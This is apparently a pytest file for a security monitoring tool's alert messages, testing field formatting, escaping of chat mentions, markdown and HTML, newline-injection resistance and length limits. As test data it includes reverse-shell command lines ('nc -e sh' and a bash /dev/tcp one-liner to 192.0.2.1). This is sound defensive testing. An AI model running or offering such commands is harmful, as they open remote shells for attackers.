"""What people are told."""

from __future__ import annotations

import pytest

from tests.escape_vectors import VECTORS
from tests.unit.respond.test_alert import sealed
from tracer.respond.message import message_of, plain

PEOPLE = {"submitted_by": {"user": {"name": "ann"}}, "typed_by": [{"user": {"id": "7"}}, {}]}


def test_it_says_what_happened() -> None:
    """Who, where, by which rule, and where in the log."""
    process = {"command_line": "nc -e sh", "tty": {"char_device": {"major": 136, "minor": 3}}}
    found = sealed(process=process, tmux=PEOPLE, user={"name": "root"})
    title, body = message_of(found)
    assert title == "high: Reverse shell on lab"
    lines = dict(line.split(": ", 1) for line in body.splitlines())
    assert lines["why"] == "Reverse shell (high)"
    assert (lines["who"], lines["user"]) == ("ann, 7", "root")
    assert (lines["program"], lines["Image"]) == ("nc -e sh", "/bin/sh")
    assert lines["clip"].startswith("pts/3 20")
    assert (lines["rule"], lines["record"]) == ("0c1e", "7")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("bash -i >& /dev/tcp/192.0.2.1/9", "bash -i >& /dev/tcp/192.0.2.1/9"),
        ("a | b && c *.txt", "a | b && c *.txt"),
        ("@everyone <!channel> <@U1>", r"\x40everyone \x3c!channel> \x3c\x40U1>"),
        ("[a](http://x) `b` ||c||", r"\x5ba](http\x3a//x) \x60b\x60 \x7c|c\x7c|"),
        ("&lt;b&gt; &#64;", r"\x26lt;b\x26gt; \x26#64;"),
    ],
)
def test_nothing_means_more_than_it_says(text: str, shown: str) -> None:
    """To a chat, or to a mail in HTML; what a shell is told can still be read."""
    assert plain(text) == shown


@pytest.mark.parametrize("vector", VECTORS.values())
def test_nothing_that_was_captured_is_left_as_it_is(vector: bytes) -> None:
    """And no line of it becomes two."""
    found = sealed(process={"command_line": vector.decode(errors="replace") + "\nrule: 9"})
    body = message_of(found).body
    assert all(line.isprintable() for line in body.split("\n"))
    assert body.count("\nrule: ") == 1


def test_it_is_no_longer_than_people_read() -> None:
    """Whatever was captured."""
    found = sealed(process={"command_line": "x" * 100_000})
    assert len(message_of(found).body) < 2000
